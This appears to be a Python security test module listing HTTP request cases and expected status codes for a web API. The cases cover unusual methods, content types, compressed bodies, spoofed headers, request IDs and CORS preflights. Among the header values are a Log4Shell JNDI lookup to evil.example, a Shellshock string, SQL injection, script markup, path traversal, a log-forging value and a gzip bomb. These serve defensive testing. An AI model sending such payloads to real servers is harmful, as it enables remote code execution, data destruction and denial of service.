"""Methods, content types, and headers that ask for something else."""

import gzip
import zlib

from tests.attacks.case import LEFT_OUT, Case, Headers

_PLAY = '/tasks/@play_task@'
_BODY = b'{"note":"typed"}'
_METHODS = ('TRACE', 'OPTIONS', 'CONNECT', 'PROPFIND', 'BREW', 'PATCHX', 'MOVE', 'LOCK', 'PURGE', 'SEARCH')
_ROUTES = ('/healthz', '/tasks', _PLAY, '/datasets/@play@', '/task_actions/process', '/users/x')
_TYPES = (
    'text/plain', 'text/plain; charset=utf-8', 'application/x-www-form-urlencoded', 'multipart/form-data; boundary=x', 'text/xml',
    'application/xml', 'application/yaml', 'application/x-yaml', 'text/json', 'application/x-json', 'application/jsonp', 'application/bson',
    'application/msgpack', 'application/octet-stream', 'application/x-java-serialized-object', 'application/json-patch+json',
    'application/vnd.api+json', 'application/ld+json', 'application/jsonx', 'xapplication/json', 'application', '/', '*/*', 'application/*',
    'application/json; charset=utf-16', 'application/json; charset=latin-1', 'application/json;charset=utf-7', 'application/json, text/plain',
    'text/plain, application/json', 'text/plain; application/json', 'application/json@x', 'application / json', '',
)  # fmt: skip
_GOOD_TYPES = (
    'application/json', 'application/json; charset=utf-8', 'application/json;charset=UTF-8', 'APPLICATION/JSON',
    'application/json; charset="utf-8"', 'application/json ;charset=utf-8',
)  # fmt: skip
_BOMB = gzip.compress(b'{"note":"' + b'x' * 20_000_000 + b'"}')
_ENCODINGS: dict[str, tuple[str, bytes]] = {
    'gzip': ('gzip', gzip.compress(_BODY)), 'bomb of gzip': ('gzip', _BOMB), 'bomb in a bomb': ('gzip, gzip', gzip.compress(_BOMB)),
    'deflate': ('deflate', zlib.compress(_BODY)), 'Brotli': ('br', b'\x0b\x02\x80{}\x03'), 'zstd': ('zstd', b'\x28\xb5\x2f\xfd'),
    'compress': ('compress', _BODY), 'unknown': ('x-evil', _BODY), 'gzip that is none': ('gzip', _BODY), 'a star': ('*', _BODY),
    'identity and gzip': ('identity, gzip', _BODY), 'gzip in capitals': ('GZIP', gzip.compress(_BODY)), 'chunked': ('chunked', _BODY),
}  # fmt: skip
# Headers that must change nothing about an answer that is 200 without them.
_WITHOUT_EFFECT: dict[str, Headers] = {
    'method override': (('X-HTTP-Method-Override', 'DELETE'), ('X-Method-Override', 'DELETE'), ('X-HTTP-Method', 'DELETE')),
    'forwarded host': (('X-Forwarded-Host', 'evil.example'), ('Forwarded', 'host=evil.example;proto=https')),
    'forwarded scheme': (('X-Forwarded-Proto', 'https'), ('X-Scheme', 'javascript')),
    'forwarded prefix': (('X-Forwarded-Prefix', '/evil.example'), ('X-Script-Name', '//evil.example')),
    'forwarded address': (('X-Forwarded-For', "127.0.0.1'; --"), ('True-Client-IP', '::1'), ('X-Real-IP', 'FORGED')),
    'range': (('Range', 'bytes=0-0'),), 'many ranges': (('Range', 'bytes=' + ','.join(['0-'] * 1000)),), 'bad range': (('Range', 'x'),),
    'if none match': (('If-None-Match', '*'),), 'if modified since': (('If-Modified-Since', 'x'),), 'if match': (('If-Match', '"x"'),),
    'HTML wanted': (('Accept', 'text/html'),), 'nothing wanted': (('Accept', 'image/png;q=0'),), 'compression': (('Accept-Encoding', 'gzip, br'),),
    'language': (('Accept-Language', '../../etc/passwd'),), 'websocket': (('Upgrade', 'websocket'), ('Sec-WebSocket-Key', 'x')),
    'HTTP/2': (('Upgrade', 'h2c'), ('HTTP2-Settings', 'AAMAAABkAAQAAP__')), 'trailers': (('TE', 'trailers'), ('Trailer', 'X')),
    'max forwards': (('Max-Forwards', '0'),), 'cookies': (('Cookie', 'a=b; ' * 2000),), 'bad cookie': (('Cookie', '=;;;="\xff'),),
    'session': (('Cookie', 'session=../../etc; __Host-x=1'),), 'log4j': (('User-Agent', '${jndi:ldap://evil.example/x}'), ('X-Api-Version', '${jndi:ldap://x}')),
    'shellshock': (('User-Agent', '() { :; }; /bin/true'),), 'markup': (('Referer', '<script>alert(1)</script>'), ('User-Agent', '<img src=x>')),
    'statement': (('User-Agent', "' OR 1=1; DROP TABLE tasks"),), 'long agent': (('User-Agent', 'x' * 20_000),),
    'host of somebody else': (('Host', 'evil.example'),), 'host with a port': (('Host', 'evil.example:99999'),),
    'origin of somebody else': (('Origin', 'https://evil.example'),), 'no origin': (('Origin', 'null'),),
    'origin like ours': (('Origin', 'http://127.0.0.1.evil.example'),), 'fetch of another site': (('Sec-Fetch-Site', 'cross-site'), ('Origin', 'https://evil.example')),
    'debug': (('X-Debug', '1'), ('X-Trace', '1'), ('Debug', 'true')), 'cache': (('Cache-Control', 'only-if-cached'), ('Pragma', 'x')),
}  # fmt: skip
_REQUEST_IDS = {
    'a blank': 'a b', 'a quote': 'a"b', 'markup': '<script>', 'braces': '{"a":1}', 'long': 'a' * 65, 'very long': 'a' * 5000, 'empty': '',
    'other letters': '\xe9\xe8', 'a line in the log': 'a\\nFORGED', 'an escape': '%0aFORGED', 'a list': 'a,b', 'a path': '../x', 'a secret': '@token_root@x',
}  # fmt: skip
_PREFLIGHT = (
    ('Origin', 'https://evil.example'),
    ('Access-Control-Request-Method', 'DELETE'),
    ('Access-Control-Request-Headers', 'authorization'),
)


def _typed(name: str, expect: tuple[int, ...], headers: Headers, body: bytes = _BODY) -> Case:
    return Case(name, expect, 'PATCH', _PLAY, body=body, headers=headers)


CASES = (
    *(
        Case(f'method: {method} {path}', (405,), method, path)
        for method in _METHODS
        for path in (_ROUTES if method in ('TRACE', 'OPTIONS') else _ROUTES[:2])
    ),
    *(Case(f'method: {method} nowhere', (404, 405), method, '/nothing') for method in ('TRACE', 'OPTIONS', 'BREW')),
    *(Case(f'method: HEAD {path}', (200, 405), 'HEAD', path) for path in ('/healthz', '/tasks', _PLAY)),
    Case('method: HEAD nowhere', (404,), 'HEAD', '/nothing'),
    Case('method: DELETE tasks', (405,), 'DELETE', '/tasks'),
    Case('method: GET of an action', (405,), path='/task_actions/process'),
    Case('method: in small letters', (400, 405, 0), 'get', bare=True),
    Case('method: with NUL', (400, 405, 0), 'GE\0T', bare=True),
    Case('method: of other letters', (400, 405, 0), 'G\xcbT', bare=True),
    Case('method: long', (400, 405, 431, 0), 'A' * 5000, bare=True),
    Case('method: override in the query', (200,), path='/healthz?_method=DELETE'),
    Case('method: override in a body', (404, 405), 'POST', '/users/root', body={'_method': 'DELETE'}),
    # Tornado looks into forms before we see them.
    *(_typed(f'type: of a body {kind!r}', (400, 415) if 'multipart' in kind else (415,), (('Content-Type', kind),)) for kind in _TYPES),
    *(_typed(f'type: of a body that is fine {kind!r}', (200,), (('Content-Type', kind),)) for kind in _GOOD_TYPES),
    _typed('type: none', (415,), (('Content-Type', LEFT_OUT),)),
    _typed('type: two', (400, 415), (('Content-Type', 'application/json'), ('Content-Type', 'text/plain'))),
    _typed('type: two, the other way round', (400, 415), (('Content-Type', 'text/plain'), ('Content-Type', 'application/json'))),
    Case('type: a form as a browser sends it', (415,), 'POST', '/datasets', 'alice', b'description=x&group=users',
         (('Content-Type', 'application/x-www-form-urlencoded'), ('Origin', 'https://evil.example'))),
    Case('type: a form with a file', (400, 415), 'POST', '/logs', body=b'--x\r\nContent-Disposition: form-data; name="data"; filename="../x"\r\n\r\n1\r\n--x--',
         headers=(('Content-Type', 'multipart/form-data; boundary=x'),)),
    Case('type: a form with a thousand parts', (400, 415), 'POST', '/logs', body=b'--x\r\n\r\n\r\n' * 5000 + b'--x--',
         headers=(('Content-Type', 'multipart/form-data; boundary=x'),)),
    Case('type: no body, any type', (200,), headers=(('Content-Type', 'text/plain'),)),
    *(_typed(f'encoding: {name}', (415,), (('Content-Encoding', kind),), body) for name, (kind, body) in _ENCODINGS.items()),
    _typed('encoding: identity', (200,), (('Content-Encoding', 'identity'),)),
    *(Case(f'header: {name}', (200, 304), headers=headers) for name, headers in _WITHOUT_EFFECT.items()),
    *(
        Case(f'header: {name} at a list', (200, 304), path='/tasks?limit=1', headers=_WITHOUT_EFFECT[name], silent=('evil.example',))
        for name in ('forwarded host', 'host of somebody else', 'method override', 'range', 'if none match', 'origin of somebody else')
    ),
    Case('header: host of somebody else at something new', (201,), 'POST', '/logs', body={'data': 'x'},
         headers=(('Host', 'evil.example'), ('X-Forwarded-Host', 'evil.example')), silent=('evil.example',)),
    *(
        Case(f'request id: {name}', (200,), headers=(('X-Request-ID', value),), silent=(value,) if len(value) > 2 else ())
        for name, value in _REQUEST_IDS.items()
    ),
    Case('request id: two', (200, 400), headers=(('X-Request-ID', 'a'), ('X-Request-ID', 'b'))),
    *(Case(f'CORS: {path}', (204, 403, 404, 405), 'OPTIONS', path, 'nobody', headers=_PREFLIGHT) for path in ('/tasks', '/datasets/@play@', '/healthz', '/nothing')),
    Case('CORS: a simple request with a token', (200,), path='/tasks?limit=1', headers=(('Origin', 'https://evil.example'),)),
)  # fmt: skip
